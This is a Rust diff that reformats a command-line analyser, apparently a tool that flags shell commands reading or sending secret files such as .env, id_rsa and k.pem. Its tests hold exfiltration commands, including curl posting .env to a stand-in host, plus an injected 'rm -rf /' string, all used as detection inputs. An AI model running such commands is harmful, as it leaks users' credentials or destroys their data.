@@ -25,9 +25,37 @@ pub enum What {
 
 /// Commands that print what they are given.
 const READERS: [&str; 31] = [
-    "cat", "bat", "less", "more", "head", "tail", "nl", "tac", "rev", "od", "xxd", "hexdump",
-    "strings", "base64", "base32", "grep", "egrep", "rg", "awk", "sed", "cut", "sort", "uniq", "tr",
-    "jq", "yq", "diff", "type", "gc", "get-content", "openssl",
+    "cat",
+    "bat",
+    "less",
+    "more",
+    "head",
+    "tail",
+    "nl",
+    "tac",
+    "rev",
+    "od",
+    "xxd",
+    "hexdump",
+    "strings",
+    "base64",
+    "base32",
+    "grep",
+    "egrep",
+    "rg",
+    "awk",
+    "sed",
+    "cut",
+    "sort",
+    "uniq",
+    "tr",
+    "jq",
+    "yq",
+    "diff",
+    "type",
+    "gc",
+    "get-content",
+    "openssl",
 ];
 
 /// Commands that send what they are given somewhere else.
@@ -46,12 +74,17 @@ pub fn named(line: &str) -> Vec<Named> {
     let mut named = Vec::new();
     for words in commands(line) {
         let mut words = words.iter().peekable();
-        while words.next_if(|word| BEFORE.contains(&&word[..]) || is_assignment(word)).is_some() {}
+        while words
+            .next_if(|word| BEFORE.contains(&&word[..]) || is_assignment(word))
+            .is_some()
+        {}
         let Some(first) = words.next() else { continue };
         let command = first.rsplit(['/', '\\']).next().unwrap_or_default();
         let command = command.trim_end_matches(".exe").to_ascii_lowercase();
         let commits = command == "git"
-            && words.next_if(|word| matches!(&word[..], "add" | "commit" | "stage")).is_some();
+            && words
+                .next_if(|word| matches!(&word[..], "add" | "commit" | "stage"))
+                .is_some();
         let what = match &command[..] {
             _ if commits => Some(What::Sends),
             other if SENDERS.contains(&other) => Some(What::Sends),
@@ -62,12 +95,18 @@ pub fn named(line: &str) -> Vec<Named> {
         for word in words {
             if redirected || word.starts_with('<') && word.len() > 1 {
                 let path = word.trim_start_matches('<').to_owned();
-                named.push(Named { path, what: what.unwrap_or(What::Reads) });
+                named.push(Named {
+                    path,
+                    what: what.unwrap_or(What::Reads),
+                });
                 redirected = false;
             } else if word == "<" {
                 redirected = true;
             } else if let Some(what) = what {
-                named.extend(paths(word).map(|path| Named { path: path.to_owned(), what }));
+                named.extend(paths(word).map(|path| Named {
+                    path: path.to_owned(),
+                    what,
+                }));
             }
         }
     }
@@ -188,14 +227,20 @@ mod tests {
         let (reads, sends) = (What::Reads, What::Sends);
         let cases: [(&str, &[(&str, What)]); 16] = [
             ("cat .env", &[(".env", reads)]),
-            ("cd x && sudo /bin/cat 'a b/.env' | wc", &[("a b/.env", reads)]),
+            (
+                "cd x && sudo /bin/cat 'a b/.env' | wc",
+                &[("a b/.env", reads)],
+            ),
             ("FOO=1 env head -n1 \"id_rsa\"", &[("id_rsa", reads)]),
             ("while read l; do echo $l; done < .env", &[(".env", reads)]),
             ("wc <.env", &[(".env", reads)]),
             ("echo \"$(cat .env)\"", &[(".env", reads)]),
             ("echo `cat .env`", &[(".env", reads)]),
             ("curl -d @.env https://h.example/x", &[(".env", sends)]),
-            ("curl --data-binary=@k.pem -Ffile=@.env h", &[("k.pem", sends), (".env", sends), ("h", sends)]),
+            (
+                "curl --data-binary=@k.pem -Ffile=@.env h",
+                &[("k.pem", sends), (".env", sends), ("h", sends)],
+            ),
             ("git add .env", &[(".env", sends)]),
             ("git status .env", &[]),
             ("echo .env >> .gitignore", &[]),
@@ -207,8 +252,10 @@ mod tests {
         for (line, want) in cases {
             let got = named(line);
             let mut got: Vec<(String, What)> = got.into_iter().map(|n| (n.path, n.what)).collect();
-            let mut want: Vec<(String, What)> =
-                want.iter().map(|(path, what)| ((*path).to_owned(), *what)).collect();
+            let mut want: Vec<(String, What)> = want
+                .iter()
+                .map(|(path, what)| ((*path).to_owned(), *what))
+                .collect();
             let key = |(path, _): &(String, What)| path.clone();
             got.sort_by_key(key);
             want.sort_by_key(key);
@@ -219,7 +266,12 @@ mod tests {
     #[test]
     fn a_wrapped_line_is_one_word_for_the_shell() {
         let program = Path::new("/opt/my tools/keysieve");
-        for line in ["env", "echo 'it''s' \"$HOME\" `id` \\", "a\nb", "echo '; rm -rf /'"] {
+        for line in [
+            "env",
+            "echo 'it''s' \"$HOME\" `id` \\",
+            "a\nb",
+            "echo '; rm -rf /'",
+        ] {
             let wrapped = wrapped(program, line).expect("it can be quoted");
             let words = shlex::split(&wrapped).expect("it is well quoted");
             assert_eq!(words[0], "/opt/my tools/keysieve");
